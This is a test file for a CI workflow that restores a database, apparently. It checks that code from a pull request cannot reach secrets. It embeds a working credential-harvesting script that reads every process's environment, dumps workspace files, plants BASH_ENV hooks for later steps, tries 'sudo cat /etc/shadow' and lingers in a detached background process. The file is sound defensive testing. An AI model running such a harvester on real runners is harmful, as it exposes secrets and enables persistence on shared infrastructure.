/** What hostile code of a pull request can get at: a dependency that is set up, waits, and looks wherever it may. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import { backedUp, expectConclusion, PULL, plantMigration } from './scene.ts'

// Each step is a process that derives a key; on a busy machine that takes its time.
vi.setConfig({ testTimeout: 240_000 })

const KEY = 'a key of this test alone: 5x3cQ9'
const AWS = 'an-aws-secret-of-this-test-alone'

let loot = ''
beforeEach(() => {
  loot = mkdtempSync(join(tmpdir(), 'comeback-loot-'))
})
afterEach(() => rmSync(loot, { recursive: true, force: true }))

/**
 * Collects what it can see for as many seconds: environments of processes, files of the runner, what root could. It also lays out
 * what steps that come later would run: variables for them, other programs, hooks of git.
 */
function thief(folder: string): string {
  return `import { execFileSync } from 'node:child_process'
import { appendFileSync, existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
const [, , name, seconds] = process.argv
const attempt = action => { try { return action() } catch {} }
const keep = (what, text) => text && appendFileSync(${JSON.stringify(folder)} + '/' + name, what + ': ' + text + '\\n')
const walk = path => {
  for (const entry of attempt(() => readdirSync(path, { withFileTypes: true })) ?? []) {
    const file = join(path, entry.name)
    if (entry.isDirectory() && entry.name !== 'node_modules') walk(file)
    else if (entry.isFile() && (attempt(() => statSync(file).size) ?? 1e9) < 1e6) keep(file, attempt(() => readFileSync(file, 'latin1')))
  }
}
const work = dirname(process.env.GITHUB_WORKSPACE)
const plant = path => attempt(() => { appendFileSync(path, 'BASH_ENV=/tmp/evil\\n'); keep('planted', path) })
do {
  for (const pid of readdirSync('/proc').filter(pid => /^[0-9]+$/.test(pid))) {
    keep('environment of ' + pid, attempt(() => readFileSync('/proc/' + pid + '/environ', 'latin1')))
    keep('command of ' + pid, attempt(() => readFileSync('/proc/' + pid + '/cmdline', 'latin1')))
  }
  walk(work)
  for (const entry of attempt(() => readdirSync(join(work, 'temp'))) ?? []) plant(join(work, 'temp', entry))
  plant(join(work, 'planted'))
  plant(join(dirname(dirname(process.env.RUNNER_NODE ?? process.execPath)), 'bin', 'planted'))
  keep('root', attempt(() => execFileSync('sudo', ['-n', 'cat', '/etc/shadow'], { encoding: 'latin1' })))
  keep('docker', attempt(() => execFileSync('docker', ['ps'], { encoding: 'latin1', stdio: 'pipe' })))
  await new Promise(resolve => setTimeout(resolve, 50))
} while (performance.now() < Number(seconds) * 1000)
`
}

const stolen = (name: string) => readFileSync(join(loot, name), 'latin1')

test('code of a pull request, and what it leaves waiting, finds the restored database and nothing that opens another one', async () => {
  await using scene = await backedUp({ COMEBACK_KEY: KEY, AWS_SECRET_ACCESS_KEY: AWS })
  const { repository, verify } = scene
  plantMigration(repository.checkout, 'ALTER TABLE guest ADD COLUMN email text')
  writeFileSync(join(repository.checkout, 'thief.mjs'), thief(loot))
  const result = await verify(PULL, {
    vars: {
      COMEBACK_SETUP: 'node thief.mjs setup 0; (setsid node thief.mjs waiting 60 < /dev/null > /dev/null 2>&1 &)',
      COMEBACK_MIGRATE: 'node thief.mjs migration 0; node migrate.mjs',
    },
  })
  expectConclusion(result, 'success')
  expect(result.jobs).toMatchObject({ 'pull-request': 'success', result: 'success' })
  const tokens = [KEY, AWS, repository.github.token, 'ACTIONS_RUNTIME_TOKEN=', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN=']
  for (const name of ['setup', 'waiting', 'migration']) {
    const seen = stolen(name)
    // It did look.
    expect(seen).toContain('gone-with-the-job')
    for (const token of tokens) expect(seen).not.toContain(token)
    expect(seen).not.toMatch(/^(planted|root|docker): /m)
  }
  // What waited was ended with the step.
  const [size, later] = [stolen('waiting').length, await new Promise(resolve => setTimeout(resolve, 500))]
  expect(later).toBeUndefined()
  expect(stolen('waiting')).toHaveLength(size)
})
